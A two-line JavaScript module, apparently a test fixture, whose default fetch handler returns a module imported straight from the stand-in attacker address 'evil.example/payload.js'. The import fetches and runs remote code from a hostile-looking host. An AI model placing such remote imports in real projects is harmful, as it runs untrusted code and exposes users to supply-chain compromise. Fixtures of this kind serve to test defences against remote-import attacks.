import evil from "https://evil.example/payload.js";
export default { fetch() { return new Response(String(evil)); } };
